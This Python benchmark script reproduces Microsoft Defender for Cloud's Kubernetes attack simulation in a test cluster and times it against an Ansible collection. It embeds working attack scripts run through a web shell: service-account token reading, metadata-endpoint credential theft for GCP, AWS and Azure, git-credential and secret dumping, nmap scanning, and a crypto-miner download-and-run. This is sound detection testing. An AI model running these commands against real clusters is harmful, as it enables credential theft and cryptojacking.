"""Benchmark: Microsoft's own flow, reproduced with kubectl, against the collection, per scenario, side by side.

    flock /tmp/sim-cluster.lock tests/cluster/run -- .venv/bin/python tests/bench/original_flow.py [--runs 1]

Microsoft's flow as ../../shared/reference/original-tool.md describes it (its chart's objects, its attacker's
script, its client's waits), with the test images of the sealed cluster:
  - apply a namespace, the victim's ServiceAccount, the victim and attacker pods and their two headless services
    (what `helm install` creates; the pods keep Kubernetes' default 30 s grace period, as the chart sets none);
  - poll the pods every 3 s while one is Pending (the tool's wait);
  - the attacker's command: for crypto and all start `python3 -m http.server 80` in /simulation, sleep 10 s, send ONE
    request to the victim's web shell (`cmd=echo <base64 of the scenario script>| base64 -d| bash`, or `cmd=whoami`
    for webshell), sleep 2 s, print `--- Simulation completed ---`; the scenario scripts are written from the
    command lines in the reference's appendix and run in the victim, as the original's do;
  - follow the attacker's log (at most 90 s) until `--- Simulation completed ---`;
  - uninstall (delete the objects without waiting, as `helm uninstall` does) and delete the namespace.
Two end times for it: when its last command returns (`kubectl delete namespace --wait=false`, the tool's exit), and
when the namespace is really gone (what the collection waits for). The collection: `simulate.yml -e scenario=X`,
start to exit, cleanup included. Nothing here runs on this machine but kubectl and ansible-playbook."""
import argparse
import base64
import json
import pathlib
import subprocess
import sys
import tempfile
import time

import benchlib
from benchlib import fmt, median

NAMESPACE = "mdc-simulation-original"
VICTIM, ATTACKER = "mdc-simulation-victim", "mdc-simulation-attacker"
IMAGES = "ghcr.io/microsoft/defender-for-cloud/attacksimulation/%s:latest"
TOKEN_FILE = "/var/run/secrets/kubernetes.io/serviceaccount/token"
IMDS = "http://169.254.169.254"

# The original's scenario scripts, from the command lines in the reference's appendix; they run in the victim.
REVIEW = ('{"kind":"SelfSubjectAccessReview","apiVersion":"authorization.k8s.io/v1","metadata":{"creationTimestamp":null},'
          '"spec":{"resourceAttributes":{"namespace":"default","verb":"get","resource":"pods"}},"status":{}}')
RECON = r"""
TOKEN=$(cat %(token)s)
curl -s -k -A kubectl -H "Authorization: Bearer $TOKEN" -H "Content-Type: application/json" -X POST -d '%(review)s' \
  https://kubernetes.default/apis/authorization.k8s.io/v1/selfsubjectaccessreviews | grep -Po '"status":\{\K.*?(?=\})'
nmap -Pn --open kubernetes.default/24 -p 443
""" % {"token": TOKEN_FILE, "review": REVIEW}
LATERAL = r"""
TOKEN=$(curl -s -H "Metadata-Flavor: Google" %(imds)s/computeMetadata/v1/instance/service-accounts/default/token \
  | grep -Po '"access_token":"\K[^"]*')
if [ -n "$TOKEN" ]; then
  echo "cloud: GCP"
elif SESSION=$(curl -sf -X PUT %(imds)s/latest/api/token -H "X-aws-ec2-metadata-token-ttl-seconds: 21600"); then
  echo "cloud: AWS"
  for ROLE in $(curl -s %(imds)s/latest/meta-data/iam/security-credentials -H "X-aws-ec2-metadata-token: $SESSION"); do
    TOKEN=$(curl -s %(imds)s/latest/meta-data/iam/security-credentials/$ROLE -H "X-aws-ec2-metadata-token: $SESSION")
  done
else
  SUB=$(curl -s -H Metadata:true --noproxy "*" "%(imds)s/metadata/instance/compute/subscriptionId?api-version=2017-08-01&format=text")
  RG=$(curl -s -H Metadata:true --noproxy "*" "%(imds)s/metadata/instance/compute/resourceGroupName?api-version=2017-08-01&format=text")
  LOCATION=$(curl -s -H Metadata:true --noproxy "*" "%(imds)s/metadata/instance/compute/location?api-version=2017-08-01&format=text")
  CLUSTER=$(echo "$RG" | cut -d_ -f3)
  URL="%(imds)s/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com"
  TOKEN=$(curl -sf -H Metadata:true "$URL" || curl -sf -H Metadata:true \
    "$URL&msi_res_id=/subscriptions/$SUB/resourcegroups/$RG/providers/Microsoft.ManagedIdentity/userAssignedIdentities/$CLUSTER-agentpool")
  [ -n "$TOKEN" ] && echo "cloud: Azure"
fi
if [ -n "$TOKEN" ]; then echo "token: $(echo "$TOKEN" | head -c 30)"; else echo "No token found"; fi
""" % {"imds": IMDS}
SECRETS = r"""
for FILE in $(find / -path '*/.git-credentials' 2>/dev/null); do cat "$FILE"; done
cat %(token)s | head -c 30; echo
if curl -sf -H "Metadata-Flavor: Google" %(imds)s/computeMetadata/v1/ -o /dev/null; then
  set | grep GOOGLE_DEFAULT_CLIENT_SECRET=
elif curl -sf -X PUT %(imds)s/latest/api/token -H "X-aws-ec2-metadata-token-ttl-seconds: 21600" -o /dev/null; then
  set | grep AWS_SECRET_ACCESS_KEY=
else
  set | grep AZURE_CREDENTIAL_FILE=
fi
""" % {"token": TOKEN_FILE, "imds": IMDS}
CRYPTO = r"""
/sbin/modprobe msr allow_writes=on > /dev/null 2>&1
touch /etc/ld.so.preload
curl -sO http://%(attacker)s/xmrig
chmod +x xmrig
./xmrig
""" % {"attacker": ATTACKER}
TI_DOMAIN = r"""
curl -s -m 10 -X POST "http://mdc-eicar.alerts.security.azure.com?SendingData" -o /dev/null
"""
SCRIPTS = {"recon": RECON, "lateral_movement": LATERAL, "secrets": SECRETS, "crypto": CRYPTO, "webshell": None,
           "ti_domain": TI_DOMAIN}
SCRIPTS["all"] = RECON + LATERAL + SECRETS + CRYPTO + TI_DOMAIN
COMPLETED = "--- Simulation completed ---"


def attacker_command(scenario):
    """The original attacker image's command for a scenario, as one sh script."""
    if SCRIPTS[scenario] is None:
        command = "whoami"
    else:
        command = "echo %s| base64 -d| bash" % base64.b64encode(SCRIPTS[scenario].encode()).decode()
    server = "python3 -m http.server 80 >/dev/null 2>&1 &\n" if scenario in ("crypto", "all") else ""
    return (server + "sleep 10\necho 'Running scenario %s'\n" % scenario
            + "curl -s -G --data-urlencode %s http://%s/ws.php\n" % (shell_quote("cmd=" + command), VICTIM)
            + "sleep 2\necho '%s'\n" % COMPLETED)


def shell_quote(text):
    return "'" + text.replace("'", "'\"'\"'") + "'"


def chart_objects(scenario):
    """What `helm install mdc-simulation` creates (reference: objects it creates), in the bench's namespace."""
    def meta(name, **extra):
        return dict({"name": name, "namespace": NAMESPACE, "labels": {"name": name}}, **extra)

    def service(name):
        return {"apiVersion": "v1", "kind": "Service", "metadata": meta(name),
                "spec": {"clusterIP": "None", "selector": {"name": name}, "ports": [{"name": "http", "port": 80}]}}

    def pod(name, hostname, container, **spec):
        return {"apiVersion": "v1", "kind": "Pod", "metadata": meta(name),
                "spec": dict({"hostname": hostname, "subdomain": name, "containers": [container]}, **spec)}

    victim = {"name": VICTIM, "image": IMAGES % "victim", "imagePullPolicy": "IfNotPresent"}
    attacker = {"name": ATTACKER, "image": IMAGES % "attacker", "imagePullPolicy": "IfNotPresent",
                "workingDir": "/simulation", "env": [{"name": "SCENARIO", "value": scenario}],
                "command": ["sh", "-c", attacker_command(scenario)]}
    return [
        {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": meta(VICTIM), "automountServiceAccountToken": True},
        pod(VICTIM, "victim", victim, serviceAccountName=VICTIM),
        pod(ATTACKER, "attacker", attacker, restartPolicy="Never"),
        service(VICTIM), service(ATTACKER)]


def original_run(scenario):
    """Seconds until the flow's last command returns and until the namespace is gone; whether it completed."""
    objects = chart_objects(scenario)
    namespace = {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": NAMESPACE, "labels": {"name": NAMESPACE}}}
    documents = json.dumps({"apiVersion": "v1", "kind": "List", "items": [namespace] + objects})
    benchlib.wait_namespace_gone(NAMESPACE)
    started = time.monotonic()
    benchlib.kubectl("apply", "-f", "-", stdin=documents)
    while True:  # the tool's wait: poll every 3 s while a pod is Pending
        pods = json.loads(benchlib.kubectl("get", "pods", "-n", NAMESPACE, "-o", "json").stdout)["items"]
        if len(pods) == 2 and all(p["status"].get("phase") != "Pending" for p in pods):
            break
        time.sleep(3)
    completed = False
    with subprocess.Popen(["kubectl", "logs", "-f", "-n", NAMESPACE, ATTACKER], stdout=subprocess.PIPE,
                          stderr=subprocess.DEVNULL, text=True) as logs:
        deadline = time.monotonic() + 90
        for line in logs.stdout:
            if line.strip() == COMPLETED:
                completed = True
                break
            if time.monotonic() > deadline:
                break
        logs.terminate()
    items = json.dumps({"apiVersion": "v1", "kind": "List", "items": objects})
    benchlib.kubectl("delete", "-f", "-", "--wait=false", stdin=items)
    benchlib.kubectl("delete", "namespace", NAMESPACE, "--wait=false")
    returned = time.monotonic() - started
    benchlib.kubectl("wait", "--for=delete", "namespace/" + NAMESPACE, "--timeout=300s", check=False)
    return returned, time.monotonic() - started, completed


def collection_run(scenario):
    benchlib.wait_namespace_gone("mdc-simulation")  # an earlier run of the collection leaves it terminating
    with tempfile.TemporaryDirectory(prefix="original-bench-") as report_dir:
        run = benchlib.measure([str(benchlib.BIN / "ansible-playbook"), "playbooks/simulate.yml", "-e",
                                json.dumps({"scenario": scenario, "report_dir": report_dir})],
                               env=benchlib.playbook_env())
    if run.returncode:
        print(run.stdout[-3000:] + run.stderr[-2000:], file=sys.stderr)
    return run.wall, run.returncode


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--scenarios", default="recon,lateral_movement,secrets,crypto,webshell,ti_domain,all")
    parser.add_argument("--runs", type=int, default=1)
    parser.add_argument("--json", type=pathlib.Path, help="also write the figures to this file")
    args = parser.parse_args()
    benchlib.require_cluster()
    rows = {}
    for scenario in args.scenarios.split(","):
        for _run in range(args.runs):
            returned, gone, completed = original_run(scenario)
            wall, rc = collection_run(scenario)
            rows.setdefault(scenario, []).append({"original_returned": returned, "original_gone": gone,
                                                  "original_completed": completed, "collection": wall,
                                                  "collection_rc": rc})
            print("%s: original %.1f s (namespace gone at %.1f s, completed %s), collection %.1f s (rc %d)"
                  % (scenario, returned, gone, completed, wall, rc), flush=True)
    if args.json:
        args.json.write_text(json.dumps(rows, indent=2) + "\n")
    print("\n%d run(s) per scenario, medians" % args.runs)
    print("%-17s %14s %16s %12s %9s" % ("scenario", "original exit", "original gone", "collection", "faster?"))
    for scenario, runs in rows.items():
        original = median(r["original_returned"] for r in runs)
        gone = median(r["original_gone"] for r in runs)
        mine = median(r["collection"] for r in runs)
        ok = all(r["original_completed"] and r["collection_rc"] == 0 for r in runs)
        verdict = ("yes" if mine < original else "no") if ok else "run failed"
        print("%-17s %14s %16s %12s %9s" % (scenario, fmt(original), fmt(gone), fmt(mine), verdict))


if __name__ == "__main__":
    main()
